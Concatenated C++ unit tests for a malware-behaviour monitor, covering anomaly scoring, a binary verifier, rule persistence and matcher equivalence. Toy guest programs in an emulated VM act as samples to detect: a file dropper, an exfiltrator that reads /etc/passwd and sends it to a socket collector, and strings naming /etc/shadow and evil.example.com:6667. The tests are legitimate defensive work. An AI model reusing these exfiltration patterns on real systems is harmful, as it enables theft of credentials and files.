    EXPECT_EQ(r.report.countByRule("behavioral_anomaly_alert"), 0u);
    EXPECT_EQ(r.report.maxSeverity(), secpert::Severity::High);
}

TEST(AnomalyEval, NoisyTrustedScenariosScoreLowAgainstOwnBaselines)
{
    // Trusted-but-noisy workloads (seed-varied inputs) must not trip
    // their own baselines on held-out seeds: the variance the seeds
    // induce is the variance the profile learns.
    auto trusted = trustedProgramScenarios();
    for (const char *id :
         {"cksum (noisy)", "rev (noisy)", "rot13 (noisy)"}) {
        Scenario s = findScenario(trusted, id);
        ASSERT_TRUE(s.reseed) << id;
        auto base =
            std::make_shared<const anomaly::BaselineProfile>(
                recordScenarioBaseline(s, 4));
        HthOptions options;
        options.baseline = base;
        options.baselineRunName = s.id;
        ScenarioResult r = runScenarioSeeded(s, 9, options);
        ASSERT_TRUE(r.report.anomalyScored) << id;
        EXPECT_FALSE(r.report.anomaly.anomalous)
            << id << " aggregate " << r.report.anomaly.aggregate;
        EXPECT_FALSE(r.flagged) << id;
    }
}

TEST(AnomalyEval, ImposterBinariesScoreHighAgainstSyncdBaseline)
{
    // A baseline is program-specific: a *different* trusted program
    // judged against syncd's profile deviates. This is why the
    // scorer's name check exists, and why hthd's single-file mode
    // has to opt out of it explicitly.
    auto trusted = trustedProgramScenarios();
    for (const char *id : {"cksum (noisy)", "rot13 (noisy)"}) {
        Scenario s = findScenario(trusted, id);
        ScenarioResult r = runScored(s, 6, true);
        ASSERT_TRUE(r.report.anomalyScored) << id;
        EXPECT_TRUE(r.report.anomaly.anomalous)
            << id << " aggregate " << r.report.anomaly.aggregate;
    }
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
