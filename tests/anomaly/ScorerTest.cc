/**
 * @file
 * Unit tests for deviation scoring: the sigma floor on zero-variance
 * metrics, the novel-metric and missing-metric policies, z capping,
 * the RMS aggregate, exclusion prefixes and the baseline-name guard.
 */

#include <gtest/gtest.h>

#include <cmath>

#include "anomaly/Scorer.hh"
#include "support/Logging.hh"

using namespace hth;
using namespace hth::anomaly;

namespace
{

obs::RunTelemetry
run(std::map<std::string, uint64_t> counters,
    std::map<std::string, uint64_t> gauges = {})
{
    obs::RunTelemetry t;
    t.profiled = true;
    t.metrics.counters = std::move(counters);
    for (const auto &[name, value] : gauges)
        t.metrics.gauges[name] = {value, value};
    return t;
}

/** A baseline where each metric was constant across 4 samples. */
BaselineProfile
constantBaseline(std::map<std::string, uint64_t> metrics,
                 const std::string &name = "demo")
{
    BaselineBuilder b(name);
    for (int i = 0; i < 4; ++i)
        b.addSample(run(metrics));
    return b.build();
}

const MetricDeviation *
find(const AnomalyScore &score, const std::string &metric)
{
    for (const MetricDeviation &d : score.top)
        if (d.metric == metric)
            return &d;
    return nullptr;
}

} // namespace

TEST(Scorer, IdenticalRunScoresZero)
{
    BaselineProfile base = constantBaseline({{"os.ticks", 1000}});
    AnomalyScore s =
        scoreTelemetry(run({{"os.ticks", 1000}}), "demo", base);
    EXPECT_DOUBLE_EQ(s.aggregate, 0.0);
    EXPECT_DOUBLE_EQ(s.maxZ, 0.0);
    EXPECT_EQ(s.scored, 1u);
    EXPECT_EQ(s.novelMetrics, 0u);
    EXPECT_FALSE(s.anomalous);
    EXPECT_EQ(s.baselineName, "demo");
}

TEST(Scorer, ZeroVarianceUsesSigmaFloor)
{
    // Constant baseline at 1000: stddev 0, so the effective sigma is
    // absFloor + relFloor * mean = 2 + 0.02 * 1000 = 22. A one-count
    // wobble is noise (z ~ 0.045); a big jump is not.
    BaselineProfile base = constantBaseline({{"os.ticks", 1000}});
    ScorerConfig cfg;   // defaults: absFloor 2, relFloor 0.02

    AnomalyScore wobble =
        scoreTelemetry(run({{"os.ticks", 1001}}), "demo", base, cfg);
    const MetricDeviation *d = find(wobble, "os.ticks");
    ASSERT_NE(d, nullptr);
    EXPECT_DOUBLE_EQ(d->sigma, 22.0);
    EXPECT_DOUBLE_EQ(d->z, 1.0 / 22.0);
    EXPECT_FALSE(wobble.anomalous);

    AnomalyScore jump =
        scoreTelemetry(run({{"os.ticks", 2100}}), "demo", base, cfg);
    EXPECT_DOUBLE_EQ(find(jump, "os.ticks")->z, 8.0);   // 50, capped
    EXPECT_TRUE(jump.anomalous);
}

TEST(Scorer, RealVarianceBeatsFloorWhenLarger)
{
    // Samples 100 and 300: mean 200, population stddev 100, well
    // above the floor (2 + 0.02*200 = 6) — the measured spread wins.
    BaselineBuilder b("demo");
    b.addSample(run({{"m", 100}}));
    b.addSample(run({{"m", 300}}));
    BaselineProfile base = b.build();

    AnomalyScore s = scoreTelemetry(run({{"m", 400}}), "demo", base);
    const MetricDeviation *d = find(s, "m");
    ASSERT_NE(d, nullptr);
    EXPECT_DOUBLE_EQ(d->sigma, 100.0);
    EXPECT_DOUBLE_EQ(d->z, 2.0);
}

TEST(Scorer, ZIsCapped)
{
    BaselineProfile base = constantBaseline({{"m", 10}});
    ScorerConfig cfg;
    cfg.zCap = 8.0;
    // sigma floor = 2.2; a deviation of 1e6 would give z ~ 4.5e5.
    AnomalyScore s =
        scoreTelemetry(run({{"m", 1000000}}), "demo", base, cfg);
    EXPECT_DOUBLE_EQ(s.maxZ, 8.0);
    EXPECT_DOUBLE_EQ(s.aggregate, 8.0);
}

TEST(Scorer, NovelMetricScoresFullCap)
{
    // A syscall the trusted program never made across any seed.
    BaselineProfile base = constantBaseline({{"os.ticks", 1000}});
    AnomalyScore s = scoreTelemetry(
        run({{"os.ticks", 1000}, {"os.syscall.11", 1}}), "demo",
        base);
    EXPECT_EQ(s.novelMetrics, 1u);
    EXPECT_EQ(s.scored, 2u);
    const MetricDeviation *d = find(s, "os.syscall.11");
    ASSERT_NE(d, nullptr);
    EXPECT_TRUE(d->novel);
    EXPECT_DOUBLE_EQ(d->z, 8.0);
    // RMS over {0, 8}.
    EXPECT_DOUBLE_EQ(s.aggregate, std::sqrt(64.0 / 2.0));
    EXPECT_TRUE(s.anomalous);
}

TEST(Scorer, BaselineMetricMissingFromRunIsObservedZero)
{
    // Set-semantics harvest only omits what never incremented, so a
    // missing metric is a zero observation — maximally deviant when
    // the baseline always saw work there.
    BaselineProfile base = constantBaseline({{"m", 1000}});
    AnomalyScore s = scoreTelemetry(run({}), "demo", base);
    const MetricDeviation *d = find(s, "m");
    ASSERT_NE(d, nullptr);
    EXPECT_DOUBLE_EQ(d->observed, 0.0);
    EXPECT_DOUBLE_EQ(d->z, 8.0);   // 1000/22 caps
}

TEST(Scorer, ExcludedPrefixesNeverScore)
{
    BaselineProfile base = constantBaseline(
        {{"os.ticks", 100}, {"fleet.sessions", 1}});
    AnomalyScore s = scoreTelemetry(
        run({{"os.ticks", 100},
             {"fleet.sessions", 999},
             {"anomaly.flagged", 5}}),
        "demo", base);
    // Neither the wild fleet counter nor the subsystem's own
    // anomaly.* metric contributes — no feedback loop.
    EXPECT_EQ(s.scored, 1u);
    EXPECT_EQ(s.novelMetrics, 0u);
    EXPECT_DOUBLE_EQ(s.aggregate, 0.0);
}

TEST(Scorer, AggregateIsRmsOfCappedZ)
{
    // Two metrics, z = 3 and z = 4 by construction (stddev 1 floor
    // won't apply: use large spreads).
    BaselineBuilder b("demo");
    b.addSample(run({{"a", 0}, {"b", 0}}));
    b.addSample(run({{"a", 200}, {"b", 400}}));
    BaselineProfile base = b.build();
    // a: mean 100, stddev 100 -> observe 400 => z 3.
    // b: mean 200, stddev 200 -> observe 1000 => z 4.
    AnomalyScore s = scoreTelemetry(run({{"a", 400}, {"b", 1000}}),
                                    "demo", base);
    EXPECT_DOUBLE_EQ(s.aggregate, std::sqrt((9.0 + 16.0) / 2.0));
    EXPECT_DOUBLE_EQ(s.maxZ, 4.0);
    // Top is ordered by z descending.
    ASSERT_EQ(s.top.size(), 2u);
    EXPECT_EQ(s.top[0].metric, "b");
    EXPECT_EQ(s.top[1].metric, "a");
}

TEST(Scorer, TopIsCappedAndTieBrokenByName)
{
    std::map<std::string, uint64_t> metrics;
    for (char c = 'a'; c <= 'l'; ++c)
        metrics[std::string("m.") + c] = 100;
    BaselineProfile base = constantBaseline(metrics);
    // Every metric deviates identically: ties broken by name, list
    // capped at topLimit.
    std::map<std::string, uint64_t> shifted;
    for (const auto &[name, v] : metrics)
        shifted[name] = v + 50;
    AnomalyScore s =
        scoreTelemetry(run(shifted), "demo", base);
    ASSERT_EQ(s.top.size(), AnomalyScore::topLimit);
    EXPECT_EQ(s.top.front().metric, "m.a");
    EXPECT_EQ(s.top.back().metric, "m.h");
    EXPECT_EQ(s.scored, 12u);
}

TEST(Scorer, NameMismatchIsFatalUnlessAllowed)
{
    BaselineProfile base = constantBaseline({{"m", 1}}, "cksum");
    EXPECT_THROW(scoreTelemetry(run({{"m", 1}}), "rev", base),
                 FatalError);

    ScorerConfig cfg;
    cfg.allowNameMismatch = true;
    AnomalyScore s = scoreTelemetry(run({{"m", 1}}), "rev", base,
                                    cfg);
    EXPECT_EQ(s.baselineName, "cksum");
    EXPECT_FALSE(s.anomalous);
}

TEST(Scorer, EmptyBaselineIsFatal)
{
    BaselineProfile base;
    base.name = "demo";
    base.samples = 3;
    EXPECT_THROW(scoreTelemetry(run({{"m", 1}}), "demo", base),
                 FatalError);
}

TEST(Scorer, GaugesScoreByLevel)
{
    obs::RunTelemetry sample = run({}, {{"taint.pages", 10}});
    BaselineBuilder b("demo");
    for (int i = 0; i < 3; ++i)
        b.addSample(sample);
    BaselineProfile base = b.build();

    AnomalyScore same =
        scoreTelemetry(run({}, {{"taint.pages", 10}}), "demo", base);
    EXPECT_DOUBLE_EQ(same.aggregate, 0.0);

    AnomalyScore moved =
        scoreTelemetry(run({}, {{"taint.pages", 500}}), "demo",
                       base);
    EXPECT_TRUE(moved.anomalous);
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
