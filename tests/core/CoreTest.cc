/**
 * @file
 * Unit tests for the public API: the Hth facade, Report helpers,
 * option plumbing and the Secure Binary verifier (Appendix B).
 */

#include <gtest/gtest.h>

#include "core/Hth.hh"
#include "core/SecureBinary.hh"
#include "workloads/GuestLib.hh"

using namespace hth;
using namespace hth::workloads;

namespace
{

std::shared_ptr<const vm::Image>
makeDropper()
{
    Gasm a("/t/dropper");
    a.dataString("path", "/tmp/.loot");
    a.dataString("payload", "bad-bytes");
    a.label("main");
    a.entry("main");
    a.creatSym("path");
    a.mov(Reg::Ebp, Reg::Eax);
    a.writeFd(Reg::Ebp, "payload", 9);
    a.exit(0);
    return a.build();
}

} // namespace

TEST(Hth, MonitorProducesReport)
{
    Hth hth;
    auto image = makeDropper();
    hth.kernel().vfs().addBinary(image->path, image);
    Report report = hth.monitor(image->path, {image->path});

    EXPECT_EQ(report.status, os::RunStatus::Done);
    EXPECT_TRUE(report.flagged());
    EXPECT_TRUE(report.flagged(secpert::Severity::High));
    EXPECT_EQ(report.maxSeverity(), secpert::Severity::High);
    EXPECT_GT(report.instructions, 0u);
    EXPECT_GT(report.syscalls, 0u);
    EXPECT_GT(report.eventsAnalyzed, 0u);
    EXPECT_GT(report.rulesFired, 0u);
    EXPECT_EQ(report.countByRule("io_BINARY_to_FILE"), 1u);
    EXPECT_EQ(report.countByRule("no_such_rule"), 0u);
    EXPECT_FALSE(report.transcript.empty());
}

TEST(Hth, TaintTrackingOptionPlumbs)
{
    HthOptions options;
    options.taintTracking = false;
    Hth hth(options);
    auto image = makeDropper();
    hth.kernel().vfs().addBinary(image->path, image);
    Report report = hth.monitor(image->path, {image->path});
    // Without data-flow tracking the write rules have no sources.
    EXPECT_FALSE(report.flagged());
}

TEST(Hth, TickBudgetHonoured)
{
    HthOptions options;
    options.maxTicks = 500;
    Hth hth(options);

    Gasm a("/t/spin");
    a.label("main");
    a.entry("main");
    a.label("loop");
    a.jmp("loop");
    auto image = a.build();
    hth.kernel().vfs().addBinary(image->path, image);
    Report report = hth.monitor(image->path, {image->path});
    EXPECT_EQ(report.status, os::RunStatus::TickLimit);
}

TEST(Hth, StdoutCaptured)
{
    Hth hth;
    Gasm a("/t/say");
    a.dataString("msg", "output!");
    a.label("main");
    a.entry("main");
    a.writeSym(1, "msg", 7);
    a.exit(3);
    auto image = a.build();
    hth.kernel().vfs().addBinary(image->path, image);
    Report report = hth.monitor(image->path, {image->path});
    EXPECT_EQ(report.stdoutData, "output!");
    EXPECT_EQ(report.exitCode, 3);
    EXPECT_FALSE(report.flagged());
}

TEST(Hth, MultipleRunsAccumulateIndependently)
{
    Hth hth;
    auto image = makeDropper();
    hth.kernel().vfs().addBinary(image->path, image);
    Report first = hth.monitor(image->path, {image->path});
    size_t first_count = first.warnings.size();
    Report second = hth.monitor(image->path, {image->path});
    // The same Hth keeps accumulating (one session per instance).
    EXPECT_GE(second.warnings.size(), first_count);
}

//
// Secure Binary (Appendix B)
//

TEST(SecureBinary, FlagsPathsAndAddresses)
{
    Gasm a("/t/audit1");
    a.dataString("p1", "/etc/shadow");
    a.dataString("p2", "./rel/file");
    a.dataString("p3", "notes.txt");
    a.dataString("s1", "evil.example.com:6667");
    a.dataString("plain", "just a banner");
    a.label("main");
    a.entry("main");
    a.exit(0);
    auto report = verifySecureBinary(*a.build());

    EXPECT_FALSE(report.secure());
    EXPECT_FALSE(report.strictlySecure());
    int paths = 0, socks = 0, raw = 0;
    for (const auto &f : report.findings) {
        switch (f.kind) {
          case SecureBinaryFinding::Kind::FilePath: ++paths; break;
          case SecureBinaryFinding::Kind::SocketAddress:
            ++socks;
            break;
          case SecureBinaryFinding::Kind::RawString: ++raw; break;
        }
    }
    EXPECT_EQ(paths, 3);
    EXPECT_EQ(socks, 1);
    EXPECT_GE(raw, 1);
}

TEST(SecureBinary, EmptyDataIsStrictlySecure)
{
    Gasm a("/t/audit2");
    a.label("main");
    a.entry("main");
    a.exit(0);
    auto report = verifySecureBinary(*a.build());
    EXPECT_TRUE(report.strictlySecure());
    EXPECT_TRUE(report.secure());
}

TEST(SecureBinary, RawStringsAllowedByRelaxedRule)
{
    Gasm a("/t/audit3");
    a.dataString("banner", "hello world this is fine");
    a.label("main");
    a.entry("main");
    a.exit(0);
    auto report = verifySecureBinary(*a.build());
    EXPECT_FALSE(report.strictlySecure());
    EXPECT_TRUE(report.secure());
}

TEST(SecureBinary, ShortStringsIgnored)
{
    Gasm a("/t/audit4");
    a.dataString("tiny", "ab");
    a.label("main");
    a.entry("main");
    a.exit(0);
    auto report = verifySecureBinary(*a.build());
    EXPECT_TRUE(report.strictlySecure());
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
