/**
 * @file
 * Tests for execution tracing and Secpert session persistence
 * (§10 extension 6: memory saved between consecutive executions).
 */

#include <gtest/gtest.h>

#include "core/Hth.hh"
#include "secpert/Secpert.hh"
#include "taint/TagSet.hh"
#include "vm/Machine.hh"
#include "vm/TextAsm.hh"
#include "workloads/GuestLib.hh"

using namespace hth;
using namespace hth::workloads;
using secpert::Severity;

TEST(Trace, RingBufferKeepsLastInstructions)
{
    taint::TagStore tags;
    vm::Machine m(tags);
    m.setTraceDepth(4);
    auto image = vm::assemble("/t/trace.exe", R"(
        .entry main
        main:
            movi eax, 1
            movi ebx, 2
            movi ecx, 3
            movi edx, 4
            movi esi, 5
            halt
    )");
    const vm::LoadedImage &li = m.loadImage(image, 1);
    m.setEip(li.base + image->entry);
    while (!m.halted())
        m.step();
    // Depth 4: the movi eax dropped out; halt is the newest entry.
    ASSERT_EQ(m.trace().size(), 4u);
    EXPECT_EQ(m.trace().back().insn.op, vm::Opcode::Halt);
    EXPECT_EQ(m.trace().front().insn.imm, 3);
    std::string text = m.traceToString();
    EXPECT_NE(text.find("/t/trace.exe+"), std::string::npos);
    EXPECT_NE(text.find("halt"), std::string::npos);

    // Shrinking the depth trims the oldest entries.
    m.setTraceDepth(2);
    EXPECT_EQ(m.trace().size(), 2u);
    m.setTraceDepth(0);
    EXPECT_TRUE(m.trace().empty());
}

TEST(Persistence, MemorySurvivesExportImport)
{
    secpert::Secpert first;

    harrier::ResourceIoEvent dl;
    dl.ctx.pid = 1;
    dl.syscall = "SYS_write";
    dl.isWrite = true;
    dl.source.type = taint::SourceType::Socket;
    dl.targetName = "payload.bin";
    dl.targetType = taint::SourceType::File;
    first.onResourceIo(dl);
    ASSERT_EQ(first.env().factsByTemplate("downloaded_file").size(),
              1u);

    // Account some clones too.
    harrier::ResourceAccessEvent clone;
    clone.ctx.pid = 1;
    clone.syscall = "SYS_clone";
    clone.isProcessCreate = true;
    for (int i = 0; i < 5; ++i) {
        clone.ctx.absTime = (uint64_t)i * 1000;
        first.onResourceAccess(clone);
    }

    std::string memory = first.exportMemory();
    EXPECT_NE(memory.find("downloaded_file"), std::string::npos);
    EXPECT_NE(memory.find("clone_stats"), std::string::npos);

    // A fresh Secpert session (e.g. after a monitor restart)
    // restores the memory and immediately flags the execution of
    // the remembered download.
    secpert::Secpert second;
    second.importMemory(memory);
    harrier::ResourceAccessEvent ex;
    ex.ctx.pid = 2;
    ex.syscall = "SYS_execve";
    ex.resName = "payload.bin";
    ex.resType = taint::SourceType::File;
    ex.origins = {{taint::SourceType::UserInput, "COMMAND_LINE"}};
    second.onResourceAccess(ex);
    ASSERT_EQ(second.warnings().size(), 1u);
    EXPECT_EQ(second.warnings()[0].rule, "exec_downloaded");

    // The imported clone counter continues where it left off: 6
    // more clones cross the threshold of 10.
    for (int i = 0; i < 6; ++i) {
        clone.ctx.absTime = 100000 + (uint64_t)i * 100000;
        second.onResourceAccess(clone);
    }
    EXPECT_GE(second.warnings().size(), 2u);
    bool count_warned = false;
    for (const auto &w : second.warnings())
        count_warned = count_warned ||
                       w.rule == "resource_abuse_count";
    EXPECT_TRUE(count_warned);
}

TEST(Persistence, ImportReplacesCounterFacts)
{
    secpert::Secpert s;
    s.importMemory("(clone_stats (count 42) (window_start 0) "
                   "(window_count 0))");
    auto stats = s.env().factsByTemplate("clone_stats");
    ASSERT_EQ(stats.size(), 1u);
    EXPECT_EQ(stats[0]->slot("count"),
              hth::clips::Value::integer(42));
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
