/**
 * @file
 * Matcher differential tests: Rete vs naive vs dirty-rescan.
 *
 * The Rete network (delta propagation, token memories) must be
 * observationally identical to both oracles: the naive
 * full-recomputation matcher and the dirty-rescan matcher (alpha
 * memories, dirty-rule marking). Every scenario in the workloads
 * corpus runs under all three strategies; the CLIPS fire trace (rule
 * + supporting fact ids, in firing order), the warning list and the
 * transcript must match byte for byte.
 *
 * A second pass repeats representative scenarios with the synthetic
 * 500-rule policy loaded on top of the shipped one, so the
 * equivalence also holds when the beta network is wide enough for
 * node sharing, negation counters and the alpha slot-set index to
 * all be under load.
 */

#include <gtest/gtest.h>

#include "workloads/Exploits.hh"
#include "workloads/Macro.hh"
#include "workloads/Micro.hh"
#include "workloads/SyntheticPolicy.hh"
#include "workloads/Trusted.hh"

using namespace hth;
using namespace hth::workloads;

namespace
{

using Matcher = secpert::PolicyConfig::Matcher;

/** Run @p s under one matching strategy, optionally with the
 * synthetic policy-at-scale rules loaded on top. */
Report
runWith(const Scenario &s, Matcher matcher, bool synthetic = false)
{
    HthOptions options;
    options.policy.matcher = matcher;
    if (synthetic) {
        SyntheticPolicyConfig cfg;
        cfg.ruleCount = 500;
        options.extraPolicyRules = syntheticPolicy(cfg);
    }
    return runScenario(s, options).report;
}

/** Warnings rendered one per line for whole-list comparison. */
std::string
warningsToString(const Report &r)
{
    std::string out;
    for (const auto &w : r.warnings) {
        out += std::to_string((int)w.severity);
        out += ' ';
        out += w.rule;
        out += " pid=";
        out += std::to_string(w.pid);
        out += ' ';
        out += w.message;
        out += '\n';
    }
    return out;
}

void
expectSame(const Report &rete, const Report &oracle,
           const char *which)
{
    // The observable behaviour of the expert system must not depend
    // on the matching strategy: same rules, same supporting facts,
    // same order, same conclusions.
    EXPECT_EQ(rete.fireTrace, oracle.fireTrace) << which;
    EXPECT_EQ(warningsToString(rete), warningsToString(oracle))
        << which;
    EXPECT_EQ(rete.maxSeverity(), oracle.maxSeverity()) << which;
    EXPECT_EQ(rete.transcript, oracle.transcript) << which;
    EXPECT_EQ(rete.eventsAnalyzed, oracle.eventsAnalyzed) << which;
    EXPECT_EQ(rete.rulesFired, oracle.rulesFired) << which;
}

class DifferentialTest : public ::testing::TestWithParam<Scenario>
{
};

class SyntheticDifferentialTest
    : public ::testing::TestWithParam<Scenario>
{
};

} // namespace

TEST_P(DifferentialTest, StrategiesAgree)
{
    const Scenario &s = GetParam();
    Report rete = runWith(s, Matcher::Rete);
    Report dirty = runWith(s, Matcher::DirtyRescan);
    Report naive = runWith(s, Matcher::Naive);

    expectSame(rete, naive, "rete vs naive");
    expectSame(rete, dirty, "rete vs dirty-rescan");

    // Sanity: the interesting scenarios actually exercise the
    // matcher (an empty trace would make the comparison vacuous).
    if (s.expectMalicious) {
        EXPECT_FALSE(rete.fireTrace.empty()) << s.id;
    }
}

TEST_P(SyntheticDifferentialTest, StrategiesAgreeAtScale)
{
    const Scenario &s = GetParam();
    Report rete = runWith(s, Matcher::Rete, true);
    Report dirty = runWith(s, Matcher::DirtyRescan, true);
    Report naive = runWith(s, Matcher::Naive, true);

    expectSame(rete, naive, "rete vs naive");
    expectSame(rete, dirty, "rete vs dirty-rescan");
    if (s.expectMalicious) {
        EXPECT_FALSE(rete.fireTrace.empty()) << s.id;
    }
}

namespace
{

std::vector<Scenario>
allScenarios()
{
    std::vector<Scenario> all;
    for (auto &&list :
         {executionFlowScenarios(), resourceAbuseScenarios(),
          infoFlowScenarios(), macroScenarios(),
          trustedProgramScenarios(), exploitScenarios()})
        for (auto &s : list)
            all.push_back(std::move(s));
    return all;
}

/** A small cross-section for the 500-rule pass: running all three
 * strategies over 500 extra rules is too slow for the whole corpus
 * (the naive oracle is O(rules × facts) per event), so pick one
 * scenario per family. */
std::vector<Scenario>
representativeScenarios()
{
    std::vector<Scenario> reps;
    auto takeFirst = [&reps](std::vector<Scenario> list) {
        if (!list.empty())
            reps.push_back(std::move(list.front()));
    };
    takeFirst(executionFlowScenarios());
    takeFirst(resourceAbuseScenarios());
    takeFirst(infoFlowScenarios());
    takeFirst(macroScenarios());
    takeFirst(trustedProgramScenarios());
    takeFirst(exploitScenarios());
    return reps;
}

std::string
scenarioName(const ::testing::TestParamInfo<Scenario> &info)
{
    // gtest parameter names must be alphanumeric.
    std::string name;
    for (char c : info.param.id)
        if (std::isalnum((unsigned char)c))
            name += c;
    return name;
}

} // namespace

INSTANTIATE_TEST_SUITE_P(Corpus, DifferentialTest,
                         ::testing::ValuesIn(allScenarios()),
                         scenarioName);

INSTANTIATE_TEST_SUITE_P(Scale500, SyntheticDifferentialTest,
                         ::testing::ValuesIn(representativeScenarios()),
                         scenarioName);

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
