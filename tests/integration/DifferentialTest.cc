/**
 * @file
 * Naive-vs-incremental matcher differential tests.
 *
 * The incremental matcher (alpha memories, dirty-rule marking,
 * maintained agenda) must be observationally identical to the naive
 * full-recomputation oracle. Every scenario in the workloads corpus
 * runs under both strategies; the CLIPS fire trace (rule + supporting
 * fact ids, in firing order), the warning list and the transcript
 * must match byte for byte.
 */

#include <gtest/gtest.h>

#include "workloads/Exploits.hh"
#include "workloads/Macro.hh"
#include "workloads/Micro.hh"
#include "workloads/Trusted.hh"

using namespace hth;
using namespace hth::workloads;

namespace
{

/** Run @p s with the naive oracle on or off. */
Report
runWith(const Scenario &s, bool naive)
{
    HthOptions options;
    options.policy.naiveMatcher = naive;
    return runScenario(s, options).report;
}

/** Warnings rendered one per line for whole-list comparison. */
std::string
warningsToString(const Report &r)
{
    std::string out;
    for (const auto &w : r.warnings) {
        out += std::to_string((int)w.severity);
        out += ' ';
        out += w.rule;
        out += " pid=";
        out += std::to_string(w.pid);
        out += ' ';
        out += w.message;
        out += '\n';
    }
    return out;
}

class DifferentialTest : public ::testing::TestWithParam<Scenario>
{
};

} // namespace

TEST_P(DifferentialTest, StrategiesAgree)
{
    const Scenario &s = GetParam();
    Report inc = runWith(s, false);
    Report naive = runWith(s, true);

    // The observable behaviour of the expert system must not depend
    // on the matching strategy: same rules, same supporting facts,
    // same order, same conclusions.
    EXPECT_EQ(inc.fireTrace, naive.fireTrace);
    EXPECT_EQ(warningsToString(inc), warningsToString(naive));
    EXPECT_EQ(inc.maxSeverity(), naive.maxSeverity());
    EXPECT_EQ(inc.transcript, naive.transcript);
    EXPECT_EQ(inc.eventsAnalyzed, naive.eventsAnalyzed);
    EXPECT_EQ(inc.rulesFired, naive.rulesFired);

    // Sanity: the interesting scenarios actually exercise the
    // matcher (an empty trace would make the comparison vacuous).
    if (s.expectMalicious) {
        EXPECT_FALSE(inc.fireTrace.empty()) << s.id;
    }
}

namespace
{

std::vector<Scenario>
allScenarios()
{
    std::vector<Scenario> all;
    for (auto &&list :
         {executionFlowScenarios(), resourceAbuseScenarios(),
          infoFlowScenarios(), macroScenarios(),
          trustedProgramScenarios(), exploitScenarios()})
        for (auto &s : list)
            all.push_back(std::move(s));
    return all;
}

std::string
scenarioName(const ::testing::TestParamInfo<Scenario> &info)
{
    // gtest parameter names must be alphanumeric.
    std::string name;
    for (char c : info.param.id)
        if (std::isalnum((unsigned char)c))
            name += c;
    return name;
}

} // namespace

INSTANTIATE_TEST_SUITE_P(Corpus, DifferentialTest,
                         ::testing::ValuesIn(allScenarios()),
                         scenarioName);

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
