/**
 * @file
 * Simultaneous-session monitoring (paper §10 extension 7): several
 * programs run under one HTH session at once; warnings are
 * attributed per process, and interactions between programs are
 * observable (one guest's hard-coded server, another guest as its
 * client).
 */

#include <gtest/gtest.h>

#include <set>

#include "core/Hth.hh"
#include "workloads/GuestLib.hh"

using namespace hth;
using namespace hth::workloads;
using secpert::Severity;

TEST(Simultaneous, WarningsAttributedPerProcess)
{
    Hth hth;
    os::Kernel &k = hth.kernel();

    // Guest A: drops a hard-coded file (HIGH).
    Gasm a("/sim/dropper");
    a.dataString("path", "/tmp/a-loot");
    a.dataString("data", "stolen");
    a.label("main");
    a.entry("main");
    a.creatSym("path");
    a.mov(Reg::Ebp, Reg::Eax);
    a.writeFd(Reg::Ebp, "data", 6);
    a.exit(0);
    auto dropper = a.build();
    k.vfs().addBinary(dropper->path, dropper);

    // Guest B: executes a hard-coded program (LOW).
    Gasm b("/sim/execer");
    b.dataString("prog", "/bin/true");
    b.label("main");
    b.entry("main");
    b.execveSym("prog");
    b.exit(0);
    auto execer = b.build();
    k.vfs().addBinary(execer->path, execer);
    k.vfs().addBinary("/bin/true", makeNoopBinary("/bin/true"));

    os::Process &pa = k.spawn(dropper->path, {dropper->path});
    os::Process &pb = k.spawn(execer->path, {execer->path});
    EXPECT_EQ(k.run(), os::RunStatus::Done);

    std::set<int> high_pids, low_pids;
    for (const auto &w : hth.secpert().warnings()) {
        if (w.severity == Severity::High)
            high_pids.insert(w.pid);
        if (w.severity == Severity::Low)
            low_pids.insert(w.pid);
    }
    EXPECT_TRUE(high_pids.count(pa.pid));
    EXPECT_FALSE(high_pids.count(pb.pid));
    EXPECT_TRUE(low_pids.count(pb.pid));
}

TEST(Simultaneous, GuestServerAndGuestClientBothMonitored)
{
    Hth hth;
    os::Kernel &k = hth.kernel();

    // A guest "drop server" that stores whatever arrives into a
    // hard-coded file.
    Gasm srv("/sim/collector");
    srv.dataString("addr", "LocalHost:5151");
    srv.dataString("logname", "collected.log");
    srv.dataSpace("buf", 64);
    srv.label("main");
    srv.entry("main");
    srv.sockCreate();
    srv.mov(Reg::Ebp, Reg::Eax);
    srv.leaSym(Reg::Edx, "addr");
    srv.sockBind(Reg::Ebp, Reg::Edx);
    srv.sockListen(Reg::Ebp);
    srv.sockAccept(Reg::Ebp);
    srv.mov(Reg::Ebp, Reg::Eax);
    srv.leaSym(Reg::Edx, "buf");
    srv.sockRecv(Reg::Ebp, Reg::Edx, 63);
    srv.mov(Reg::Edi, Reg::Eax);
    srv.creatSym("logname");
    srv.mov(Reg::Esi, Reg::Eax);
    srv.mov(Reg::Ebx, Reg::Esi);
    srv.leaSym(Reg::Ecx, "buf");
    srv.mov(Reg::Edx, Reg::Edi);
    srv.sysc(os::NR_write);
    srv.exit(0);
    auto collector = srv.build();
    k.vfs().addBinary(collector->path, collector);

    // A guest exfiltrator reading a secret file into that server.
    Gasm cli("/sim/exfil");
    cli.dataString("addr", "LocalHost:5151");
    cli.dataString("secret", "/etc/passwd");
    cli.dataSpace("buf", 64);
    cli.label("main");
    cli.entry("main");
    cli.sleepTicks(500);
    cli.openSym("secret", GO_RDONLY);
    cli.mov(Reg::Ebp, Reg::Eax);
    cli.readFd(Reg::Ebp, "buf", 32);
    cli.push(Reg::Eax);             // byte count (socket helpers
                                    // clobber ESI/EDI)
    cli.sockCreate();
    cli.mov(Reg::Ebp, Reg::Eax);
    cli.leaSym(Reg::Edx, "addr");
    cli.sockConnect(Reg::Ebp, Reg::Edx);
    cli.pop(Reg::Edx);              // restore the length
    cli.leaSym(Reg::Ecx, "buf");
    cli.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
    cli.exit(0);
    auto exfil = cli.build();
    k.vfs().addBinary(exfil->path, exfil);
    k.vfs().addFile("/etc/passwd", "root:x:0:0:/root:/bin/sh\n");

    os::Process &ps = k.spawn(collector->path, {collector->path});
    os::Process &pc = k.spawn(exfil->path, {exfil->path});
    EXPECT_EQ(k.run(), os::RunStatus::Done);

